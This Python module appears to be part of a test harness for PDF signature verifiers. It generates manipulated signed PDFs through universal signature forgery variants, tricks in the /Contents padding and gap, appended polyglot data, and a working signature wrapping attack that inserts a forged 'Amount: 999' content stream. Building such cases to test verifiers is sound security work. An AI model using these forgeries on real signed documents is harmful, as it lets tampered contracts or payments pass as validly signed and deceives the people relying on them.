"""Attacks on the bytes of a signature: universal forgery, wrapping, games with gaps and strings.

Each takes a signed file and returns another one. Where the signer himself must take part (for the
bytes are signed), the file is signed anew by whoever plays.
"""

import re
from collections.abc import Callable
from typing import Final

Game = Callable[[bytes], bytes]
GAP: Final = re.compile(rb"/Contents <([0-9a-fA-F]{2000,})>")
RANGE: Final = re.compile(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\]")
FORGED: Final = b"BT /F1 24 Tf 72 700 Td (Amount: 999) Tj ET"


def gap_of(pdf: bytes) -> tuple[int, int]:
    """Return where the first /Contents string starts and ends, its delimiters included."""
    found = GAP.search(pdf)
    assert found is not None
    return found.start(1) - 1, found.end(1) + 1


def with_range(pdf: bytes, value: bytes) -> bytes:
    """Write another value of /ByteRange in the place of the first one."""
    found = RANGE.search(pdf)
    assert found is not None
    return pdf[: found.start()] + value.ljust(len(found.group())) + pdf[found.end() :]


def ranged(value: bytes) -> Game:
    """Return the game of another /ByteRange, or none."""
    return lambda pdf: with_range(pdf, value)


def filled(digits: bytes) -> Game:
    """Return the game of another /Contents, as long as the old one."""

    def game(pdf: bytes) -> bytes:
        start, end = gap_of(pdf)
        return pdf[: start + 1] + digits.ljust(end - start - 2, b"0") + pdf[end - 1 :]

    return game


def without_contents(pdf: bytes) -> bytes:
    """Rename the key."""
    return pdf.replace(b"/Contents <", b"/Xontents <", 1)


def contents_is_null(pdf: bytes) -> bytes:
    """Put null where the string was."""
    start, end = gap_of(pdf)
    return pdf[:start] + b"null".ljust(end - start) + pdf[end:]


def contents_is_reference(pdf: bytes) -> bytes:
    """Put a reference where the string was."""
    start, end = gap_of(pdf)
    return pdf[:start] + b"1 0 R".ljust(end - start) + pdf[end:]


def tail(pdf: bytes, put: bytes, *, lost: int) -> bytes:
    """Write something over the last padding digits of the gap."""
    _, end = gap_of(pdf)
    return pdf[: end - 1 - lost] + put + pdf[end - 1 :]


def padding_holds_something(pdf: bytes) -> bytes:
    """Write a payload into the padding."""
    return tail(pdf, b"6d616c77617265", lost=14)


def padding_is_spaces(pdf: bytes) -> bytes:
    """Write spaces and line ends into the padding."""
    return tail(pdf, b" \n \r ", lost=5)


def odd_digits(pdf: bytes) -> bytes:
    """Leave an odd number of digits, which the standard allows to be read."""
    return tail(pdf, b" ", lost=1)


def comment_in_gap(pdf: bytes) -> bytes:
    """End the string early and comment the rest out."""
    return tail(pdf, b">%" + b"0" * 38, lost=40)


def second_string_in_gap(pdf: bytes) -> bytes:
    """End the string early and begin another key."""
    return tail(pdf, b">/Reason<" + b"41" * 10, lost=29)


def dictionary_in_gap(pdf: bytes) -> bytes:
    """End string and dictionary early, and hide an object in the gap."""
    put = b">>>\nendobj\n9 0 obj\n<</X<"
    return tail(pdf, put, lost=len(put))


def wrapped(pdf: bytes) -> bytes:
    """SWA: keep what was signed at the end, and put a forged revision where it was.

    The dictionary is written anew with a /ByteRange that jumps over the forgery; digest and value
    hold, for the same bytes are signed as before. The signed tail's own startxref still names the
    old place of its table, where the forged one now stands.
    """
    start, end = gap_of(pdf)
    table_at = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    number, shown = _object_around(pdf, start), int(re.findall(rb"/Contents (\d+) 0 R", pdf)[0])
    forged = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n"
    forged = forged % (shown, len(FORGED), FORGED)
    copy = b"%d 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/Contents "
    copy = copy % number + pdf[start:end] + b"/ByteRange [%010d %010d %010d %010d]>>\nendobj\n"
    written = _objects(pdf, pdf.index(b"%%EOF"))
    places = dict.fromkeys([shown, number, *dict(written)], 0)
    body_at = table_at + len(_table(pdf, places))
    moved = body_at + len(forged) + len(copy % (0, 0, 0, 0))
    places |= {key: place if place < end else moved + place - end for key, place in written}
    places |= {shown: body_at, number: body_at + len(forged)}
    copy %= (0, start, moved, len(pdf) - end)
    return pdf[:table_at] + _table(pdf, places) + forged + copy + pdf[end:]


def _object_around(pdf: bytes, place: int) -> int:
    return int(list(re.finditer(rb"(\d+) 0 obj", pdf[:place]))[-1].group(1))


def _objects(pdf: bytes, since: int) -> list[tuple[int, int]]:
    found = re.finditer(rb"(?<=\n)(\d+) 0 obj", pdf[since:])
    return [(int(one.group(1)), since + one.start()) for one in found]


def _table(pdf: bytes, places: dict[int, int]) -> bytes:
    lines = b"".join(b"%d 1\n%010d 00000 n \n" % (key, at) for key, at in sorted(places.items()))
    keys = (re.findall(rb"/%s \d+(?: 0 R)?" % key, pdf)[-1] for key in (b"Root", b"Size", b"Prev"))
    return b"xref\n" + lines + b"trailer\n<<" + b"".join(keys) + b">>\n"


FORGERIES: dict[str, Game] = {
    "no range": ranged(b""),
    "empty range": ranged(b"/ByteRange []"),
    "null range": ranged(b"/ByteRange null"),
    "text range": ranged(b"/ByteRange (0 1 2 3)"),
    "zero range": ranged(b"/ByteRange [0 0 0 0]"),
    "negative range": ranged(b"/ByteRange [0 -1 2 3]"),
    "infinite range": ranged(b"/ByteRange [0 1 2 99999999999]"),
    "range that starts late": ranged(b"/ByteRange [9 1 2 3]"),
    "range of one part": ranged(b"/ByteRange [0 999]"),
    "range with two gaps": ranged(b"/ByteRange [0 9 19 9 30 9]"),
    "referred range": ranged(b"/ByteRange 1 0 R"),
    "no contents": without_contents,
    "null contents": contents_is_null,
    "referred contents": contents_is_reference,
    "empty contents": filled(b""),
    "contents of zeros": filled(b"00"),
    "contents of an empty sequence": filled(b"3000"),
    "contents of garbage": filled(b"deadbeef" * 20),
}
"""Universal signature forgery: what a viewer may take for a signature that is just missing."""

GAMES: dict[str, Game] = {
    "payload in the padding": padding_holds_something,
    "spaces in the padding": padding_is_spaces,
    "odd digits": odd_digits,
    "comment in the gap": comment_in_gap,
    "another key in the gap": second_string_in_gap,
    "object in the gap": dictionary_in_gap,
    "byte behind the gap": lambda pdf: pdf[: gap_of(pdf)[1]] + b" " + pdf[gap_of(pdf)[1] :],
    "garbage appended": lambda pdf: pdf + b"garbage",
    "HTML appended": lambda pdf: pdf + b"<html><script>1</script></html>\n%%EOF\n",
    "zip appended": lambda pdf: pdf + b"PK\x05\x06" + b"\0" * 18,
    "garbage in front": lambda pdf: b"MZ\x90\0" + pdf,
    "wrapped": wrapped,
}
